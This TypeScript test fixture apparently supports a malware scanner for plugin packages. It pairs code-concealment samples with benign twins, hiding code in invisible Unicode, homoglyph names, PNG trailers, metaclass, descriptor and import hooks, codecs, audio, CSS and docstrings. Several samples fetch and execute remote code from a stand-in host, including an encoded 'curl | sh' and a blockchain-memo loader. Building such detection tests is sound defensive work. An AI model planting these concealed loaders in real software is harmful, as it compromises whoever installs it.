import { type Attack, bytes, kind, python, script } from './attack-pack.test-support.ts'

/** Encodes bytes as characters that no editor shows. */
const invisible = (text: string) =>
  [...Buffer.from(text)]
    .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
    .join('')
const tagged = (text: string) =>
  [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')
const zeroWidth = (text: string) =>
  [...Buffer.from(text)]
    .map((byte) => byte.toString(2).padStart(8, '0').replaceAll('0', '\u200b').replaceAll('1', '\u200c'))
    .join('')

const picture = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)
const pictureEnd = Buffer.from('0000000049454e44ae426082', 'hex')

/** Code and data that readers do not see, and code that runs where nothing is called. */
export const concealments: Attack[] = [
  script(
    'decodes characters that no editor shows, and runs them',
    `const d = (s) => [...s].map((c) => (c.codePointAt(0) - 0xe0100 + 16) & 255)\neval(new TextDecoder().decode(new Uint8Array(d("${invisible('alert(1)')}"))))`,
    'const label = "heart \u2764\ufe0f"\nconsole.log(label)',
  ),
  script(
    'carries data in variation selectors',
    `const key = "${invisible('a long secret payload that is not shown')}"\nwindow.key = key`,
    'const flags = ["\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "\u2600\ufe0f"]\nconsole.log(flags)',
  ),
  python(
    'carries a command in tag characters',
    `TITLE = "Upscaler${tagged('curl example.test')}"\ndef show():\n    return "".join(chr(ord(c) - 0xE0000) for c in TITLE[8:])\nimport os\nos.system(show())`,
    'TITLE = "Upscaler"\ndef show():\n    return TITLE.upper()\nprint(show())',
  ),
  python(
    'carries bytes in characters without width',
    `NOTE = "ok${zeroWidth('print(1) # hidden')}"\nbits = "".join("1" if c == "\\u200c" else "0" for c in NOTE[2:])\nexec(int(bits, 2).to_bytes(len(bits) // 8, "big").decode())`,
    'NOTE = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"\nprint(NOTE)',
  ),
  python(
    'names a function like a well-known one in other letters',
    'import base64\ndef \u0435val(x):\n    return exec(base64.b64decode(x))\n\u0435val("cHJpbnQoMSk=")',
    'def \u043e\u0446\u0435\u043d\u043a\u0430(x):\n    return x + 1\n\u043e\u0446\u0435\u043d\u043a\u0430(1)',
  ),
  python(
    'writes code far to the right',
    `x = 1${' '.repeat(400)};import os;os.system("x")\n`,
    `x = 1${' '.repeat(60)}# a remark\n`,
  ),
  {
    name: 'runs the bytes after the end of a picture',
    files: {
      '__init__.py':
        'import os\ndata = open(os.path.join(os.path.dirname(__file__), "logo.png"), "rb").read()\nexec(data[data.index(b"IEND") + 8:])',
      'logo.png': Buffer.concat([picture, pictureEnd, Buffer.from('import os\nos.system("x")\n')]),
    },
    twin: {
      '__init__.py':
        'import os\ndata = open(os.path.join(os.path.dirname(__file__), "logo.png"), "rb").read()\nprint(len(data))',
      'logo.png': Buffer.concat([picture, pictureEnd]),
    },
  },
  {
    name: 'puts the payload together from several files',
    files: {
      '__init__.py': 'from . import a, b, c\nimport base64\nexec(base64.b64decode(a.PART + b.PART + c.PART))',
      'a.py': 'PART = "cHJp"',
      'b.py': 'PART = "bnQo"',
      'c.py': 'PART = "MSk="',
    },
    twin: {
      '__init__.py':
        'from . import a, b, c\nimport base64\nLOGO = base64.b64decode(a.PART + b.PART + c.PART)',
      'a.py': 'PART = "cHJp"',
      'b.py': 'PART = "bnQo"',
      'c.py': 'PART = "MSk="',
    },
  },
  python(
    'runs when a class is derived',
    'import requests\nclass Base:\n    def __init_subclass__(cls, **kw):\n        exec(requests.get("https://example.test/c").text)\nclass Node(Base):\n    pass',
    'class Base:\n    nodes = []\n    def __init_subclass__(cls, **kw):\n        Base.nodes.append(cls)\nclass Node(Base):\n    pass',
  ),
  python(
    'runs in a metaclass with the namespace of the class',
    'import base64\nclass Meta(type):\n    def __new__(m, name, bases, space):\n        code = space.get("DATA")\n        if code:\n            exec(base64.b64decode(code))\n        return super().__new__(m, name, bases, space)\nclass Node(metaclass=Meta):\n    DATA = "cHJpbnQoMSk="',
    'class Meta(type):\n    def __new__(m, name, bases, space):\n        space["CATEGORY"] = space.get("CATEGORY", "image")\n        return super().__new__(m, name, bases, space)\nclass Node(metaclass=Meta):\n    DATA = "cHJpbnQoMSk="',
  ),
  python(
    'runs when a descriptor gets its name',
    'import os, base64\nclass Field:\n    def __init__(self, text):\n        self.text = text\n    def __set_name__(self, owner, name):\n        os.system(base64.b64decode(self.text).decode())\nclass Node:\n    field = Field("Y3VybCBleGFtcGxlLnRlc3Q=")',
    'class Field:\n    def __init__(self, text):\n        self.text = text\n    def __set_name__(self, owner, name):\n        self.name = name\nclass Node:\n    field = Field("Y3VybCBleGFtcGxlLnRlc3Q=")',
  ),
  python(
    'runs when an attribute is read through a descriptor',
    'import urllib.request\nclass Lazy:\n    def __get__(self, obj, owner):\n        return exec(urllib.request.urlopen("https://example.test/l").read())\nclass Node:\n    RETURN_TYPES = ("IMAGE",)\n    FUNCTION = Lazy()\nNODE_CLASS_MAPPINGS = {"N": Node}\nprint(Node.FUNCTION)',
    'class Lazy:\n    def __get__(self, obj, owner):\n        return "run"\nclass Node:\n    RETURN_TYPES = ("IMAGE",)\n    FUNCTION = Lazy()\nNODE_CLASS_MAPPINGS = {"N": Node}\nprint(Node.FUNCTION)',
  ),
  python(
    'hides the call behind attributes of a module',
    'import sys, types, base64\nclass M(types.ModuleType):\n    def __getattr__(self, name):\n        return exec(base64.b64decode(name[1:]))\nm = M("m")\nm._cHJpbnQoMSk',
    'import types\nclass M(types.ModuleType):\n    def __getattr__(self, name):\n        return name[1:]\nm = M("m")\nm._abc',
  ),
  python(
    'hooks every import and changes what is imported',
    'import sys, importlib.abc, importlib.util, requests\nclass Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n    def find_spec(self, name, path, target=None):\n        return importlib.util.spec_from_loader(name, self) if name == "upscale" else None\n    def exec_module(self, module):\n        exec(requests.get("https://example.test/u").text, module.__dict__)\nsys.meta_path.insert(0, Finder())\nimport upscale',
    'import sys, importlib.abc\nclass Finder(importlib.abc.MetaPathFinder):\n    def find_spec(self, name, path, target=None):\n        if name == "old_name":\n            print("old_name was renamed")\n        return None\nsys.meta_path.append(Finder())',
  ),
  python(
    'registers a codec that runs what it decodes',
    'import codecs\ndef decode(data, errors="strict"):\n    exec(bytes(b ^ 7 for b in data))\n    return "", len(data)\ncodecs.register(lambda n: codecs.CodecInfo(name="x7", encode=None, decode=decode) if n == "x7" else None)\nopen("table.bin", encoding="x7").read()',
    'import codecs\ndef decode(data, errors="strict"):\n    return bytes(b ^ 7 for b in data).decode(), len(data)\ncodecs.register(lambda n: codecs.CodecInfo(name="x7", encode=None, decode=decode) if n == "x7" else None)',
  ),
  python(
    'hides a payload in the samples of a sound',
    'import wave, base64, os\nw = wave.open(os.path.join(os.path.dirname(__file__), "click.wav"))\nframes = w.readframes(w.getnframes())\nexec(bytes(frames[i] ^ 21 for i in range(0, len(frames), 2)))',
    'import wave, os\nw = wave.open(os.path.join(os.path.dirname(__file__), "click.wav"))\nframes = w.readframes(w.getnframes())\nprint(max(frames[i] for i in range(0, len(frames), 2)))',
  ),
  python(
    'finds its code in a calendar and a chain of blocks',
    'import base64, requests\nr = requests.post("https://api.mainnet-beta.solana.com", json={"method": "getSignaturesForAddress"}).json()\nmemo = r["result"][0]["memo"]\nurl = base64.b64decode(memo).decode()\nexec(requests.get(url).text)',
    'import requests\nr = requests.post("https://api.mainnet-beta.solana.com", json={"method": "getBalance"}).json()\nprint(r["result"]["value"])',
  ),
  python(
    'turns a list of colors into a call',
    'COLORS = ["#696d70", "#6f7274", "#206f73"]\ndata = b"".join(bytes.fromhex(c[1:]) for c in COLORS)\nexec(data)',
    'COLORS = ["#696d70", "#6f7274", "#206f73"]\ndata = b"".join(bytes.fromhex(c[1:]) for c in COLORS)\nprint(len(data))',
  ),
  script(
    'hides a script in a style sheet',
    'const r = await fetch("./theme.css"); const css = await r.text(); const m = css.match(/--x:"([^"]+)"/); new Function(atob(m[1]))()',
    'const r = await fetch("./theme.css"); const css = await r.text(); const m = css.match(/--x:"([^"]+)"/); document.title = m[1]',
  ),
  {
    name: 'ships a start script with a payload in its documentation',
    files: {
      '__init__.py': kind,
      'prestartup_script.py':
        '"""Y3VybCBleGFtcGxlLnRlc3QgfCBzaA=="""\nimport os, base64\nos.system(base64.b64decode(__doc__).decode())',
    },
    twin: {
      '__init__.py': kind,
      'prestartup_script.py': '"""Prepares the folder."""\nimport os\nos.makedirs("cache", exist_ok=True)',
    },
  },
]
